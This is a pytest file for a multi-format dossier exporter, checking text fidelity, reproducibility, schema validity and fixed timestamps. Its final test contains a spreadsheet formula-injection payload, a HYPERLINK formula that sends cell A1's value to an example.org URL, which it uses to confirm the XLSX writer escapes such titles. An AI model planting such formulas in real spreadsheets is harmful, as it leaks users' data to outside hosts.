"""Golden content: every format opened with its own library shows markup, long titles, emoji and accents intact."""

import hashlib
import io
import json
import zipfile
from pathlib import Path

import docx
import jsonschema
import pytest
from odf import teletype
from odf.opendocument import load as load_odt
from odf.text import H, P

from recommendations.exports import FORMATS, write_export
from tests.recommendations import samples
from tests.shared.documents import csv_rows, pdf_text, xlsx_sheet

SCHEMA = json.loads(
    (Path(__file__).resolve().parents[2] / "recommendations/schema/dossier-1.schema.json").read_text(encoding="utf-8")
)
EXPECTED = [samples.ACCENTS, samples.EMOJI, samples.MARKUP, samples.LONG_TITLE, "Collège des élus", "R-2026-002"]


def _flat(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture(scope="module")
def files():
    document = samples.document()
    out = {}
    for fmt in FORMATS:
        buffer = io.BytesIO()
        write_export(document, fmt, buffer)
        out[fmt] = buffer.getvalue()
    return out


def _text(fmt: str, data: bytes) -> str:
    if fmt == "pdf":
        return pdf_text(data)
    if fmt == "odt":
        odt = load_odt(io.BytesIO(data))
        return "\n".join(teletype.extractText(e) for kind in (H, P) for e in odt.getElementsByType(kind))
    if fmt == "docx":
        word = docx.Document(io.BytesIO(data))
        cells = [c.text for t in word.tables for r in t.rows for c in r.cells]
        return "\n".join([p.text for p in word.paragraphs] + cells)
    if fmt == "xlsx":
        sheet = xlsx_sheet(data, read_only=True)
        return "\n".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row if v is not None)
    if fmt == "csv":
        return "\n".join(v for row in csv_rows(data) for v in row)
    return "\n".join(_strings(json.loads(data)))


def _strings(value):
    if isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)
    elif isinstance(value, str):
        yield value


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_renders_accents_emoji_markup_and_long_titles(files, fmt):
    text = _flat(_text(fmt, files[fmt]))
    for expected in EXPECTED:
        if fmt == "pdf" and expected == samples.LONG_TITLE:
            # Line breaks in the PDF may fall inside the title: compare without spaces.
            assert expected.replace(" ", "") in text.replace(" ", "")
            continue
        assert _flat(expected) in text, (fmt, expected)


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_is_reproducible(fmt, files):
    again = io.BytesIO()
    write_export(samples.document(), fmt, again)
    assert hashlib.sha256(again.getvalue()).hexdigest() == hashlib.sha256(files[fmt]).hexdigest()


def test_json_is_valid_against_the_published_schema(files):
    data = json.loads(files["json"])
    jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.FormatChecker()).validate(data)
    assert data["recommendations"][0]["title"] == samples.LONG_TITLE
    assert data["recommendations"][0]["adoption"]["ballot"]["by_college"][0] == {
        "label": "Collège des élus",
        "yes": 41,
        "no": 5,
        "abstain": 2,
    }


def test_csv_and_xlsx_have_one_row_per_recommendation(files):
    assert len(csv_rows(files["csv"])) == 3
    sheet = xlsx_sheet(files["xlsx"], read_only=True)
    assert len(list(sheet.iter_rows(values_only=True))) == 3


def test_office_files_carry_the_dossier_date_not_the_current_time(files):
    for fmt in ("odt", "docx", "xlsx"):
        with zipfile.ZipFile(io.BytesIO(files[fmt])) as archive:
            assert {info.date_time for info in archive.infolist()} == {(2026, 4, 1, 9, 30, 0)}


def test_the_pdf_has_a_cover_a_summary_sections_and_annexes(files):
    text = _flat(_text("pdf", files["pdf"]))
    for heading in ("Résumé", "Mobilités", "Santé", "Annexes", "Filiation", "34 Hérault", "Élodie Martín-Ñúñez"):
        assert heading in text, heading


def test_the_xlsx_writer_guards_a_title_a_spreadsheet_would_run():
    # The XLSX writer builds its own cells: each must go through the formula guard of core.tabular.
    formula = '=HYPERLINK("https://example.org/?x="&A1;"Cliquez")'
    buffer = io.BytesIO()
    write_export(
        samples.document([samples.entry(1, title=formula), samples.entry(2, title="+33 5 61 00 00 00")]), "xlsx", buffer
    )
    sheet = xlsx_sheet(buffer.getvalue())
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + formula in values and "'+33 5 61 00 00 00" in values
    assert formula not in values
